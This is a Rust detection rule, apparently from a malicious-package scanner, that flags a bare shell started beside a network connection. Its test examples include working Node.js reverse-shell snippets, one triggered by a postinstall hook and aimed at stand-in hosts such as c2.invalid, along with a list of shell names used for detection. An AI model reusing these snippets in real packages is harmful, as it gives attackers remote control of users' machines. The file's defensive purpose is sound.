//! A shell without a command, beside a connection.

use super::judge::{self, ByTrigger};
use super::provenance::Whose;
use super::{Context, Declaration, Example, Finding};
use crate::behaviours::Behaviour;
use crate::model::{Origin, Severity};

pub(super) static FINDING: Declaration = Declaration {
    id: "reverse-shell",
    title: "Connects a shell to another machine",
    severity: Severity::Critical,
    summary: "The same file opens a connection to another machine and starts a shell that is given no command: whoever is at the other end types the commands.",
    advice: "Don't install it. If it ran, take the machine off the network and treat everything on it as known to others.",
    benign_when: "A terminal in a page or a client for remote work, which its user starts.",
    references: &["CWE-506", "T1059", "T1095", "T1571"],
    examples: &[
        Example {
            name: "a function that is called connects a shell to a host of its own choice",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const { Socket } = require("net");
const { spawn } = require("child_process");
const peer = { host: "192.0.2.41", port: 4433 };
exports.attach = () => {
  const link = new Socket();
  link.connect(peer.port, peer.host, () => {
    const side = spawn("/bin/sh", ["-i"]);
    link.pipe(side.stdin);
    side.stdout.pipe(link);
  });
};"#,
                ),
            ],
        },
        Example {
            name: "a socket is piped into a shell on install",
            severity: Some(Severity::Critical),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node i.js"}}"#,
                ),
                (
                    "i.js",
                    r#"const net = require("net"), { spawn } = require("child_process");
const sh = spawn("/bin/sh", []);
const c = net.connect(4444, "c2.invalid", () => { c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); });"#,
                ),
            ],
        },
        Example {
            name: "a library for terminals that somebody calls",
            severity: Some(Severity::Low),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const net = require("net"), { spawn } = require("child_process");
exports.attach = (host) => { const c = net.connect(22, host), sh = spawn("bash"); c.pipe(sh.stdin); sh.stdout.pipe(c); };"#,
                ),
            ],
        },
        Example {
            name: "a shell that is given a script, beside a client",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const net = require("net"), { spawnSync } = require("child_process");
spawnSync("sh", ["-c", "make all"]);
exports.ping = () => net.connect(80, "service.example").end();"#,
                ),
            ],
        },
    ],
    detect,
};

const AT_MOST: ByTrigger = ByTrigger {
    import: Severity::Critical,
    asked: Severity::Low,
};
/// Where the package says to whom: no caller wants that.
const FIXED_AT_MOST: ByTrigger = ByTrigger {
    import: Severity::Critical,
    asked: Severity::High,
};

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    let connects: Vec<&Behaviour> = context
        .behaviours
        .iter()
        .filter(|one| matches!(one.what.id, "network.socket" | "network.websocket"))
        .collect();
    for behaviour in context.behaviours {
        let starts = matches!(behaviour.what.id, "process.spawn" | "process.exec");
        let target = behaviour.target.as_deref().unwrap_or("");
        if !starts || !is_bare_shell(target) {
            continue;
        }
        let beside = connects.iter().filter(|one| {
            one.reach == behaviour.reach
                && one
                    .sites
                    .iter()
                    .any(|a| behaviour.sites.iter().any(|b| a.file == b.file))
        });
        let Some(connection) = beside.max_by_key(|one| is_fixed(context, one)) else {
            continue;
        };
        let to = connection
            .target
            .as_deref()
            .unwrap_or("a host that is not resolved");
        let message = format!("starts {target} beside a connection to {to}");
        let mut finding = Finding::of_behaviour(&FINDING, behaviour, message);
        finding.evidence.extend(&connection.sites);
        finding.evidence.sort_unstable();
        let at_most = match is_fixed(context, connection) {
            true => FIXED_AT_MOST,
            false => AT_MOST,
        };
        judge::by_trigger(at_most, &mut finding);
        found.push(finding);
    }
}

/// Whether the package alone says with whom it connects, and that is not this machine.
fn is_fixed(context: &Context<'_>, connection: &Behaviour) -> bool {
    let Some(to) = connection.target.as_deref() else {
        return false;
    };
    let is_chosen = connection.origin.has(Origin::Parameter)
        || connection.origin.has(Origin::Environment)
        || connection.origin.has(Origin::Unknown);
    !is_chosen && !to.contains('/') && context.home.whose(to) == Some(Whose::Foreign)
}

/// Whether a command is a shell that waits for commands.
fn is_bare_shell(command: &str) -> bool {
    let mut words = command.split_whitespace();
    let program = words
        .next()
        .and_then(|word| word.rsplit(['/', '\\']).next());
    let is_shell = program.is_some_and(|name| {
        matches!(
            name.trim_end_matches(".exe"),
            "sh" | "bash" | "zsh" | "dash" | "ash" | "ksh" | "cmd" | "powershell" | "pwsh"
        )
    });
    is_shell
        && words.all(|word| {
            matches!(
                word,
                "-i" | "-l" | "-il" | "--login" | "/Q" | "/K" | "-NoLogo" | "-NoProfile"
            )
        })
}
